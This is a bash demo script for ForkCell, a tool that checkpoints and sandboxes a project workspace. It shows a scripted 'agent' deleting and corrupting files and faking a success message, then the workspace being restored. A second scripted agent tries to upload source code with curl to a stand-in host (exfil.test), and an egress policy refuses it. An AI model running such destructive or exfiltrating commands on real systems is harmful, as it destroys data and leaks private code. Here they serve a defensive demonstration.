#!/bin/bash
# ForkCell demo: a workspace survives a failing "agent" command.
#
#   sudo ./scripts/demo.sh
#
# On a fresh Debian 12 machine it installs the packages it needs
# (scripts/install-deps.sh) and builds (make) first. Then it
#   1. makes a small project directory and initialises a cell from it,
#   2. mounts the cell and takes a checkpoint,
#   3. runs an "agent" that edits, creates and deletes files and exits 1,
#   4. shows what the agent changed (forkcellctl diff),
#   5. restores the checkpoint while mounted and proves the workspace is
#      back byte for byte,
#   6. runs an agent that tries to upload the workspace under an OpenShell
#      policy: the egress proxy refuses it, the receipt and `events query`
#      show the denial,
#   7. prints the generation tree (forkcellctl checkpoints).
# Everything lives in a temporary directory that is removed at the end
# (FORKCELL_DEMO_KEEP=1 keeps it).
set -euo pipefail

SRC=$(cd "$(dirname "$0")/.." && pwd)
# FORKCELL_BIN: use already built programs (the test suite does); skips the
# package installation and the build.
BIN=${FORKCELL_BIN:-$SRC/build/release}
CTL=$BIN/forkcellctl

bold() { if [ -t 1 ]; then printf '\033[1m%s\033[0m\n' "$*"; else printf '%s\n' "$*"; fi; }
step() { echo; bold "==> $*"; }
show() {
	printf '$ %s\n' "$*"
	"$@"
}

if [ "$(id -u)" -ne 0 ]; then
	echo "demo: run as root (FUSE mounts and package installation): sudo $0" >&2
	exit 1
fi

# ---- prepare: packages and build ------------------------------------------
if [ -z "${FORKCELL_BIN:-}" ]; then
	if ! "$SRC/scripts/install-deps.sh" --print | xargs dpkg-query -W >/dev/null 2>&1; then
		step "installing build dependencies"
		"$SRC/scripts/install-deps.sh"
	fi
	step "building ForkCell"
	buildlog=$(mktemp)
	if ! make -C "$SRC" -j"$(nproc)" >"$buildlog" 2>&1; then
		cat "$buildlog" >&2
		echo "demo: the build failed" >&2
		exit 1
	fi
	rm -f "$buildlog"
	echo "built $BIN/forkcellfs and $BIN/forkcellctl"
fi

DEMO=$(mktemp -d /tmp/forkcell-demo.XXXXXX)
STORE=$DEMO/store
PROJECT=$DEMO/project
MNT=$DEMO/mnt
CELL=demo

fc() { timeout 60 "$CTL" --store "$STORE" "$@"; }

cleanup() {
	local rc=$?
	set +e
	if mountpoint -q "$MNT" 2>/dev/null; then
		fc umount "$CELL" >/dev/null 2>&1 || umount -l "$MNT"
	fi
	if [ "${FORKCELL_DEMO_KEEP:-0}" = 1 ]; then
		echo "demo files kept in $DEMO"
	else
		rm -rf "$DEMO"
	fi
	exit $rc
}
trap cleanup EXIT

# tree_digest DIR: one line per path with type, mode and content hash.
tree_digest() {
	(cd "$1" && find . -mindepth 1 -printf '%y %m %p %l\n' | sort &&
		find . -type f -print0 | sort -z | xargs -0 -r sha256sum)
}

# ---- 1. a project and a cell ----------------------------------------------
step "1. a project directory and a cell made from it"
mkdir -p "$PROJECT/src" "$PROJECT/docs"
cat >"$PROJECT/src/main.c" <<'EOF_C'
#include <stdio.h>

int main(void)
{
	printf("hello from the demo project\n");
	return 0;
}
EOF_C
printf 'CFLAGS = -O2 -Wall\n\nhello: src/main.c\n\t$(CC) $(CFLAGS) -o $@ $<\n' \
	>"$PROJECT/Makefile"
printf '# Demo project\n\nThis file must survive the agent.\n' >"$PROJECT/README.md"
printf 'design notes: keep it simple\n' >"$PROJECT/docs/notes.txt"
ln -s src/main.c "$PROJECT/main-link.c"
show fc init "$CELL" --from "$PROJECT"

# ---- 2. mount --------------------------------------------------------------
step "2. mount the cell (forkcellctl run would mount it on demand too)"
mkdir -p "$MNT"
show fc mount "$CELL" "$MNT" --allow-other
show ls -l "$MNT"
BEFORE=$(tree_digest "$MNT")

# ---- 3. the governed run ----------------------------------------------------
# A careless "agent": rewrites code, deletes docs, leaves junk, claims success
# on its output, then fails. It runs in the local sandbox (bubblewrap): the
# host is read-only, there is no network, the cell is at /workspace.
AGENT='echo "agent: refactoring..."
printf "int main(void) { return *(int *)0; }\n" > src/main.c
rm -f README.md
rm -rf docs
dd if=/dev/urandom of=build.tmp bs=64k count=16 status=none
chmod 000 Makefile
echo "exit status: 0"
echo "agent: error: tests failed" >&2
exit 1'

step "3. forkcellctl run: checkpoint, sandboxed command, receipt, restore on failure"
printf '$ forkcellctl run %s --checkpoint-before --checkpoint-name before-agent --restore-on-fail -- sh -c <agent>\n' "$CELL"
fc run "$CELL" --checkpoint-before --checkpoint-name before-agent --restore-on-fail \
	-- sh -c "$AGENT"

# ---- 4. the receipt ---------------------------------------------------------
step "4. the signed receipt: exit status from waitpid, the file changes, the decision"
show fc receipt show --format md
show fc receipt verify

# ---- 5. the workspace is back -------------------------------------------------
step "5. the command failed, so the workspace was restored (still mounted)"
show ls -l "$MNT"
show cat "$MNT/README.md"
AFTER=$(tree_digest "$MNT")
if [ "$BEFORE" = "$AFTER" ]; then
	bold "workspace restored: every path, mode and byte equals the checkpoint"
else
	echo "demo: the restored workspace differs from the checkpoint:" >&2
	diff <(echo "$BEFORE") <(echo "$AFTER") >&2 || true
	exit 1
fi

# ---- 6. the same agent under a policy -----------------------------------------
# An OpenShell policy: the workspace and /tmp writable, the system read-only,
# and only GET to one package mirror. forkcell-init applies Landlock and
# seccomp; forkcell-proxy is the sandbox's only way out and logs every
# decision as an OCSF event into the receipt.
cat >"$DEMO/policy.yaml" <<'EOF'
version: 1
filesystem_policy:
  include_workdir: true
  read_only: [/usr, /lib, /lib64, /bin, /sbin, /etc, /proc, /dev]
  read_write: [/tmp]
network_policies:
  mirror:
    endpoints:
      - {host: mirror.test, port: 443, protocol: rest, access: read-only}
    binaries: [{path: /usr/bin/curl}]
EOF
EXFIL='echo "agent: uploading the workspace somewhere..."
curl -s -o /dev/null -w "exfil.test: HTTP %{http_code}\n" --data-binary @src/main.c http://exfil.test/upload
exit 1'
step "6. a policy-enforced run: the upload is refused by the egress proxy"
printf '$ forkcellctl run %s --policy policy.yaml --restore-on-fail -- sh -c <agent>\n' "$CELL"
fc run "$CELL" --policy "$DEMO/policy.yaml" --restore-on-fail -- sh -c "$EXFIL"
show fc receipt show --format md
show fc events query --cell "$CELL" --decision denied

# ---- 7. history -----------------------------------------------------------
step "7. the generation tree"
show fc checkpoints "$CELL"
show fc status "$CELL"
show fc umount "$CELL"
show fc fsck

echo
bold "demo finished: the failing agent's changes were undone in constant time"
